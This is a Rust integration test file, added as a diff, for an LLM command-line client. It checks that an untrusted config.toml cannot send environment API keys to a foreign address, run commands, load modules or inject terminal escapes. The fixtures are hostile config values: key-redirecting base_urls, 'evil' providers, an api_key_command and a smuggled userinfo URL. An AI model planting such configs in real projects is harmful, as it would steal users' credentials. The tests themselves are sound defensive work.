@@ -1,0 +1,380 @@
+//! A `config.toml` that came with the folder: what a stranger could gain by it is refused, until it is trusted.
+
+use std::fs;
+
+use arcllm_simulator::Simulator;
+use insta::assert_snapshot;
+use serde_json::{Value, json};
+
+use crate::{
+    scene::{replies, soon},
+    support::{Folder, Output},
+};
+
+const UPPER: &[u8] = include_bytes!("../../prebuilt/upper.wasm");
+
+/// A folder that somebody has entered with keys in the environment, and a server that wants them.
+struct Scene {
+    server: Simulator,
+    folder: Folder,
+}
+
+impl Scene {
+    /// This configuration, in which `URL` is where the server is.
+    async fn of(config: &str) -> Self {
+        let server = replies([]).await;
+        let folder = Folder::new(&config.replace("URL", &server.url())).unwrap();
+        Self { server, folder }
+    }
+
+    fn file(self, name: &str, content: impl AsRef<[u8]>) -> Self {
+        self.folder.write(name, content).unwrap();
+        self
+    }
+
+    /// How the command ends.
+    async fn run(&self, arguments: &[&str]) -> Output {
+        self.run_with(arguments, &[]).await
+    }
+
+    async fn run_with(&self, arguments: &[&str], environment: &[(&str, &str)]) -> Output {
+        let keys =
+            [("ANTHROPIC_API_KEY", "sk-ant-REAL"), ("OPENAI_API_KEY", "sk-REAL"), ("AWS_SECRET_ACCESS_KEY", "aws")];
+        let command = keys
+            .iter()
+            .chain(environment)
+            .fold(self.folder.arcllm(arguments).unwrap(), |command, (name, value)| command.env(name, value));
+        soon(command.run()).await.unwrap()
+    }
+
+    /// What a question is refused with. Nobody was connected to.
+    async fn refused(&self, arguments: &[&str]) -> String {
+        let output = self.run(&[&["invoke", "Hi"], arguments].concat()).await;
+        assert_eq!((output.code, output.stdout.as_str(), self.server.connections()), (2, "", 0), "{output:?}");
+        assert!(output.stderr.contains("not trusted"), "{output:?}");
+        output.stderr.replace(&self.server.url(), "URL").replace(&self.server.address().to_string(), "ADDRESS")
+    }
+
+    /// That a question is answered by the server.
+    async fn answered(&self, arguments: &[&str]) {
+        let output = self.run(&[&["invoke", "Hi"], arguments].concat()).await;
+        assert_eq!(output.code, 0, "{output:?}");
+        self.server.forget_requests();
+    }
+}
+
+/// The attack that all of this is about.
+const STEALS: &str = "[defaults]\nprovider = \"anthropic\"\n[providers.anthropic]\nbase_url = \"URL\"\n";
+
+/// A provider of one's own machine that asks for no key.
+const LOCAL: &str = "[defaults]\nprovider = \"local\"\n[providers.local]\nadapter = \"openai\"\nbase_url = \"URL\"\ndefault_model = \"m\"\n";
+
+#[tokio::test]
+async fn a_preset_at_another_address_gets_no_key() {
+    let scene = Scene::of(STEALS).await;
+    assert_snapshot!(scene.refused(&[]).await, @"
+    error: config.toml:4: `providers.anthropic.base_url` would send the environment variable ANTHROPIC_API_KEY to ADDRESS, and this file is not trusted: it was found in the working directory
+      help: if you trust it, run `arcllm trust config.toml`, or name it with --config config.toml or ARCLLM_CONFIG
+    ");
+    let output = scene.run(&["invoke", "--json", "--stream", "Hi"]).await;
+    assert_eq!((output.code, &output.json().unwrap()["error"]["kind"]), (2, &json!("config")));
+    assert_eq!(scene.server.connections(), 0);
+}
+
+#[tokio::test]
+async fn whoever_names_the_file_trusts_it() {
+    let scene = Scene::of(STEALS).await;
+    scene.answered(&["--config", "config.toml"]).await;
+    let output = scene.run_with(&["invoke", "Hi"], &[("ARCLLM_CONFIG", "config.toml")]).await;
+    assert_eq!((output.code, scene.server.requests().len()), (0, 1), "{output:?}");
+    assert!(scene.server.requests()[0].authorized_with("sk-ant-REAL"));
+    let elsewhere = scene.folder.path().join("config.toml").display().to_string();
+    scene.answered(&["--config", &elsewhere]).await;
+}
+
+#[tokio::test]
+async fn it_is_trusted_where_it_is_and_as_it_is() {
+    let scene = Scene::of(STEALS).await;
+    let output = scene.run(&["trust"]).await;
+    assert_eq!((output.code, output.stderr.as_str()), (0, ""));
+    let place = scene.folder.path().canonicalize().unwrap().join("config.toml").display().to_string();
+    let sha = output.stdout.split("sha256      ").nth(1).unwrap().lines().next().unwrap().to_owned();
+    let said = output.stdout.replace(&place, "[file]").replace(&sha, "[sha256]");
+    assert_snapshot!(said.replace(&scene.server.address().to_string(), "ADDRESS"), @"
+    trusted     [file]
+    sha256      [sha256]
+    As long as it does not change:
+      `providers.anthropic.base_url` would send the environment variable ANTHROPIC_API_KEY to ADDRESS
+    ");
+    let list = scene.run(&["trust", "--list"]).await.stdout;
+    assert_eq!(list, format!("{sha}  {place}\n"));
+    scene.answered(&[]).await;
+
+    let mut text = fs::read_to_string(scene.folder.path().join("config.toml")).unwrap();
+    text.push_str("\n# a comment\n");
+    scene.folder.write("config.toml", &text).unwrap();
+    let before = scene.server.connections();
+    let output = scene.run(&["invoke", "Hi"]).await;
+    assert_eq!((output.code, scene.server.connections()), (2, before), "{output:?}");
+    assert!(output.stderr.contains("not trusted: it has changed since it was trusted"), "{output:?}");
+
+    assert_eq!(scene.run(&["trust", "config.toml"]).await.code, 0);
+    assert_eq!(scene.run(&["trust", "--list"]).await.stdout.lines().count(), 1);
+    scene.answered(&[]).await;
+    assert_eq!(scene.run(&["trust", "--forget"]).await.code, 0);
+    assert_eq!(scene.run(&["invoke", "Hi"]).await.code, 2);
+    assert_eq!(scene.run(&["trust", "--list"]).await.stdout, "no configuration is trusted\n");
+    let again = scene.run(&["trust", "--forget"]).await;
+    assert!(again.code == 2 && again.stderr.contains("was not trusted"), "{again:?}");
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn what_is_trusted_is_for_its_owner_alone_to_write() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let scene = Scene::of(STEALS).await;
+    scene.run(&["trust"]).await;
+    let store = scene.folder.path().join(".local/state/arcllm/trusted.json");
+    assert_eq!(fs::metadata(&store).unwrap().permissions().mode() & 0o777, 0o600);
+    let entry = serde_json::from_str::<Value>(&fs::read_to_string(&store).unwrap()).unwrap()["trusted"][0].clone();
+    assert!(entry["file"].as_str().unwrap().ends_with("config.toml") && entry["sha256"].as_str().unwrap().len() == 64);
+    // What cannot be read is not taken for nothing.
+    fs::write(&store, "{}").unwrap();
+    let output = scene.run(&["invoke", "Hi"]).await;
+    assert!(output.code == 2 && output.stderr.contains("trusted.json: is not what"), "{output:?}");
+}
+
+#[tokio::test]
+async fn what_is_no_configuration_is_not_remembered() {
+    let scene = Scene::of("[providers").await;
+    let output = scene.run(&["trust"]).await;
+    assert!(output.code == 2 && output.stderr.contains("is not TOML"), "{output:?}");
+    let output = scene.run(&["trust", "none.toml"]).await;
+    assert!(output.code == 2 && output.stderr.contains("none.toml: cannot be read"), "{output:?}");
+    assert_eq!(scene.run(&["trust", "--list"]).await.stdout, "no configuration is trusted\n");
+}
+
+/// A check looks at nothing that a stranger points it to: not even whether it is there.
+#[tokio::test]
+async fn check_reads_no_file_and_runs_no_command() {
+    let config = "[defaults]\nprovider = \"openai\"\n[providers.openai]\nSETTING\n";
+    for (setting, would) in [
+        ("api_key_file = \"/dev/stdin\"", "would send what stands in"),
+        ("api_key_file = \"nowhere\"", "would send what stands in"),
+        ("api_key_command = [\"touch\", \"it-ran\"]", "would run"),
+        ("headers.x-a = { env = \"NO_SUCH_VARIABLE\" }", "would send the environment variable NO_SUCH_VARIABLE"),
+    ] {
+        let scene = Scene::of(&config.replace("SETTING", setting)).await;
+        let output = scene.run(&["check", "--json"]).await;
+        let report = output.json().unwrap();
+        assert!(output.code == 2 && report["problems"].to_string().contains(would), "{report}");
+        assert_eq!(report["warnings"], json!([]));
+        assert!(!scene.folder.path().join("it-ran").exists());
+    }
+}
+
+/// What one call may send is the caller's money.
+#[tokio::test]
+async fn more_requests_for_a_call_than_by_default() {
+    for (most, code) in [(32, 0), (33, 2), (4_294_967_295_u32, 2)] {
+        let scene = Scene::of(&format!("[host]\nmax_attempts = {most}\n{LOCAL}")).await;
+        let output = scene.run(&["invoke", "--provider", "local", "Hi"]).await;
+        assert_eq!(output.code, code, "{output:?}");
+        let would =
+            format!("`host.max_attempts` would send up to {most} requests for one call, and this file is not trusted");
+        assert!(code == 0 || output.stderr.contains(&would), "{output:?}");
+    }
+}
+
+/// A terminal shows an error as it is.
+#[tokio::test]
+async fn names_in_the_file_cannot_move_a_terminals_cursor() {
+    let name = r#""\u001b[2Jx""#;
+    for text in [
+        format!("[providers.{name}]\nadapter = \"openai\"\nbase_url = \"https://evil.example\""),
+        format!("[modules.{name}]\nenabled = true"),
+        format!("[modules.retry]\nsandbox.wasm = {name}"),
+        format!("[host]\nmodules_dir = {name}"),
+        format!("[host]\norder = [{name}]"),
+        format!("[providers.openai]\napi_key_file = {name}"),
+        format!("[providers.openai]\napi_key_command = [{name}]"),
+        format!("[providers.openai]\nheaders.{name} = \"a\""),
+        format!("[providers.openai]\nquery.{name} = {{ env = \"A\" }}"),
+        format!("[{name}]"),
+    ] {
+        let scene = Scene::of(&format!("{LOCAL}\n{text}")).await;
+        for arguments in [&["check"][..], &["modules"], &["invoke", "--provider", "openai", "Hi"]] {
+            let output = scene.run(arguments).await;
+            assert!(!output.stdout.contains('\u{1b}') && !output.stderr.contains('\u{1b}'), "{text}: {output:?}");
+        }
+        let output = scene.run(&["check"]).await;
+        assert!(format!("{}{}", output.stdout, output.stderr).contains("u{1b}[2Jx"), "{text}: {output:?}");
+    }
+}
+
+/// Each is refused with these words, and the server hears nothing.
+#[tokio::test]
+async fn every_other_way_to_a_key() {
+    let evil =
+        |settings: &str| format!("{LOCAL}\n[providers.evil]\nadapter = \"openai\"\ndefault_model = \"m\"\n{settings}");
+    for (settings, says) in [
+        ("base_url = \"URL\"\napi_key_env = \"AWS_SECRET_ACCESS_KEY\"", "AWS_SECRET_ACCESS_KEY to ADDRESS"),
+        (
+            "base_url = \"URL\"\nheaders.x-a = { env = \"AWS_SECRET_ACCESS_KEY\" }",
+            "`providers.evil.headers.x-a` would send",
+        ),
+        ("base_url = \"URL\"\nquery.a = { env = \"AWS_SECRET_ACCESS_KEY\" }", "`providers.evil.query.a` would send"),
+        ("base_url = \"URL\"\napi_key_file = \"secret\"", "secret\" to ADDRESS"),
+        ("base_url = \"URL\"\napi_key_command = [\"touch\", \"it-ran\"]", "would run \"touch\""),
+        ("base_url = \"URL\"\napi_key_header = \"x-a\"\napi_key_env = \"HOME\"", "HOME to ADDRESS"),
+        (
+            "base_url = \"http://evil.invalid\"\nallow_insecure_http = true",
+            "would send conversations to evil.invalid:80",
+        ),
+        ("base_url = \"https://api.openai.com@127.0.0.1:9\"", "holds a user name or a password"),
+        (
+            "base_url = \"https://api.openai.com.\"\napi_key_env = \"OPENAI_API_KEY\"",
+            "OPENAI_API_KEY to api.openai.com.:443",
+        ),
+        (
+            "base_url = \"https://api.openai.com:444\"\napi_key_env = \"OPENAI_API_KEY\"",
+            "OPENAI_API_KEY to api.openai.com:444",
+        ),
+    ] {
+        let scene = Scene::of(&evil(settings)).await.file("secret", "sk-file");
+        let output = scene.run(&["invoke", "--provider", "evil", "Hi"]).await;
+        let said = output.stderr.replace(&scene.server.address().to_string(), "ADDRESS");
+        assert_eq!((output.code, scene.server.connections()), (2, 0), "{settings}: {output:?}");
+        assert!(said.contains(says), "{settings}: {said}");
+        for secret in ["aws", "sk-file", "sk-REAL"] {
+            assert!(!said.contains(secret), "{said}");
+        }
+        assert!(!scene.folder.path().join("it-ran").exists());
+        if !says.starts_with("holds") {
+            scene.answered(&[]).await;
+        }
+    }
+}
+
+/// The first is asked only where the second could be, too.
+#[tokio::test]
+async fn whom_a_fallback_would_turn_to() {
+    let config =
+        format!("{LOCAL}\n[providers.anthropic]\nbase_url = \"URL\"\n[modules.fallback]\nchain = [\"anthropic\"]\n");
+    let scene = Scene::of(&format!("{config}enabled = true")).await;
+    assert!(scene.refused(&[]).await.contains("ANTHROPIC_API_KEY to ADDRESS"));
+    let scene = Scene::of(&config).await;
+    assert!(scene.refused(&["--module", "fallback=on"]).await.contains("ANTHROPIC_API_KEY to ADDRESS"));
+    assert!(
+        scene.refused(&["--module", "fallback={\"chain\": [\"ollama\", \"anthropic\"]}"]).await.contains("ANTHROPIC")
+    );
+    scene.answered(&["--module", "fallback={\"chain\": [\"ollama\"]}"]).await;
+}
+
+#[tokio::test]
+async fn what_asks_for_no_key_works_on_this_machine() {
+    let modules =
+        "[modules.retry]\nenabled = true\n[modules.fallback]\nenabled = true\nchain = [\"ollama\", \"openai\"]\n";
+    let scene = Scene::of(&format!("{LOCAL}headers.x-a = \"b\"\n{modules}")).await;
+    scene.answered(&[]).await;
+    let scene =
+        Scene::of("[defaults]\nprovider = \"openai\"\n[providers.openai]\nbase_url = \"URL\"\napi_key_env = \"\"")
+            .await;
+    scene.answered(&[]).await;
+}
+
+#[tokio::test]
+async fn no_module_is_loaded_from_a_file() {
+    let on = |sandbox: &str| {
+        format!("{LOCAL}\n[host]\norder = [\"mine\", \"retry\"]\n[modules.mine]\nenabled = true\n{sandbox}")
+    };
+    let elsewhere = tempfile::tempdir().unwrap();
+    fs::write(elsewhere.path().join("mine.wasm"), UPPER).unwrap();
+    let elsewhere = elsewhere.path().display().to_string();
+    for config in [
+        on(""),
+        on("sandbox.wasm = \"other.wasm\""),
+        on("sandbox.wasm = \"../modules/mine.wasm\""),
+        on(&format!("sandbox.wasm = \"{elsewhere}/mine.wasm\"")),
+        on("sandbox.on_trap = \"bypass\""),
+        on("").replace("[host]", &format!("[host]\nmodules_dir = \"{elsewhere}\"")),
+        on("").replace("[host]", "[host]\nmodules_dir = \"link\""),
+        format!("{LOCAL}\n[modules.retry]\nenabled = true\nsandbox.wasm = \"mine.wasm\""),
+    ] {
+        let scene = Scene::of(&config).await.file("modules/mine.wasm", UPPER).file("modules/other.wasm", UPPER);
+        #[cfg(unix)]
+        std::os::unix::fs::symlink("modules", scene.folder.path().join("link")).unwrap();
+        let said = scene.refused(&[]).await;
+        assert!(said.contains("would run the module in \"") && said.contains(".wasm\""), "{said}");
+        assert_eq!(scene.run(&["trust"]).await.code, 0);
+        scene.answered(&[]).await;
+    }
+    let off = on("").replace("enabled = true", "enabled = false\nsome = \"setting\"");
+    let scene = Scene::of(&off).await.file("modules/mine.wasm", UPPER);
+    assert!(scene.refused(&["--module", "mine=on"]).await.contains("would run the module in \"modules/mine.wasm\""));
+    scene.answered(&[]).await;
+}
+
+#[tokio::test]
+async fn check_and_modules_say_what_is_not_trusted_and_run_none_of_it() {
+    let config = format!(
+        "{LOCAL}\n[providers.anthropic]\nbase_url = \"URL\"\n[host]\norder = [\"mine\"]\n[modules.mine]\nenabled = true\n"
+    );
+    let scene = Scene::of(&config).await.file("modules/mine.wasm", UPPER).file("modules/stray.wasm", UPPER);
+    let output = scene.run(&["check", "--json"]).await;
+    let report = output.json().unwrap();
+    let problems = report["problems"].to_string();
+    assert_eq!((output.code, &report["trusted"]), (2, &json!(false)));
+    assert!(problems.contains("would run the module in") && !problems.contains("ANTHROPIC"), "{problems}");
+    let warnings = report["warnings"].to_string();
+    assert!(warnings.contains("ANTHROPIC_API_KEY to 127.0.0.1") && warnings.contains("stray.wasm"), "{warnings}");
+    let asked = scene.run(&["check", "--provider", "anthropic", "--json"]).await.json().unwrap();
+    assert!(asked["problems"].to_string().contains("ANTHROPIC_API_KEY to 127.0.0.1"), "{asked}");
+    let output = scene.run(&["check"]).await;
+    assert!(output.code == 2 && output.stdout.contains("arcllm trust config.toml"), "{output:?}");
+
+    let output = scene.run(&["modules", "--json"]).await;
+    assert_eq!(output.code, 2);
+    let modules = output.json().unwrap();
+    for module in modules["modules"].as_array().unwrap() {
+        let is_file = module["name"] == "mine" || module["name"] == "stray";
+        assert_eq!(module["problem"].to_string().contains("not trusted"), is_file, "{module}");
+        // What a module says of itself is known by running it.
+        assert_eq!(module["version"].is_null(), is_file, "{module}");
+    }
+    assert_eq!(scene.run(&["trust"]).await.code, 0);
+    let report = scene.run(&["check", "--json"]).await.json().unwrap();
+    assert_eq!((&report["trusted"], &report["problems"]), (&json!(true), &json!([])));
+    assert_eq!(scene.server.connections(), 0);
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn a_link_to_a_trusted_file_is_not_trusted() {
+    let config = format!("{LOCAL}\n[host]\norder = [\"mine\"]\n[modules.mine]\nenabled = true\n");
+    let scene = Scene::of(&config).await.file("modules/mine.wasm", UPPER);
+    assert_eq!(scene.run(&["trust"]).await.code, 0);
+    let evil = scene.folder.path().join("evil");
+    scene.folder.write("evil/modules/mine.wasm", UPPER).unwrap();
+    std::os::unix::fs::symlink("../config.toml", evil.join("config.toml")).unwrap();
+    // The same home, another working directory.
+    let home = scene.folder.path().display().to_string();
+    let command = crate::support::Arcllm::new(&evil).unwrap().arguments(["invoke", "Hi"]).env("HOME", &home);
+    let output = soon(command.run()).await.unwrap();
+    assert!(output.code == 2 && output.stderr.contains("not trusted"), "{output:?}");
+    scene.answered(&[]).await;
+}
+
+#[tokio::test]
+async fn the_users_own_file_is_trusted_wherever_the_user_is() {
+    let scene = Scene::of(STEALS).await;
+    let text = fs::read_to_string(scene.folder.path().join("config.toml")).unwrap();
+    fs::remove_file(scene.folder.path().join("config.toml")).unwrap();
+    scene.folder.write(".config/arcllm/config.toml", &text).unwrap();
+    scene.answered(&[]).await;
+    let home = scene.folder.path().display().to_string();
+    let inside = scene.folder.path().join(".config/arcllm");
+    let command = crate::support::Arcllm::new(&inside).unwrap().arguments(["invoke", "Hi"]);
+    let command = command.env("HOME", &home).env("ANTHROPIC_API_KEY", "sk-ant-REAL");
+    assert_eq!(soon(command.run()).await.unwrap().code, 0);
+}
